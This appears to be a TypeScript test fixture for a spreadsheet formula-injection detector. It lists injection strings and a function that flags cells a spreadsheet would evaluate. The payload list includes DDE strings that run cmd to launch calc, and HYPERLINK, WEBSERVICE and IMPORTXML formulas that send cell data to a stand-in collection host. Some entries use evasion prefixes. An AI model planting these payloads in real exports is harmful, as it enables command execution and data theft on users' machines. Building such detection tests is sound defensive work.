const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠']

const payloads = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|'/C calc'!A0",
  'HYPERLINK("https://collect.example/?x="&A1,"Click")',
  'WEBSERVICE("https://collect.example")',
  'IMPORTXML("https://collect.example","//a")',
  'DDE("cmd";"/C calc";"!A0")',
  '-2+3',
]

/** Prefixes that do not stop a spreadsheet from reading a formula. */
const leads = ['', ' ', '\t', '\n', '\u00a0', '\u3000', '\u200b', '\ufeff', "'", "''"]

/** Prefixes that end the cell, so that the sign starts a new one. */
const waysOut = ['', 'a;', 'a,', 'a\n', 'a\t', 'a"', '";', '",', '"\n', 'a\r\n', '";"', 'a|']

/** Every sign with each prefix and each formula, including those that begin like a phone number. */
export const formulaStrings: readonly string[] = [
  ...signs.flatMap((sign) => leads.map((lead) => `${lead}${sign}${payloads[0]}`)),
  ...signs.flatMap((sign) => payloads.map((payload) => sign + payload)),
  ...waysOut.flatMap((wayOut) => signs.map((sign) => `${wayOut}${sign}1+1`)),
  '+1-202-555-0100',
  '+(1)/2',
  '\tplain',
  '=',
]

/** Whether a spreadsheet would evaluate a cell; a phone number of plus sign, digits and blanks is harmless. */
export function isFormula(cell: string): boolean {
  const text = cell.replace(/^[\s\p{Cf}]+/u, '')
  return /^[=+\-@＝＋－＠]/u.test(text) && !/^\+\d[\d ]*$/.test(text)
}
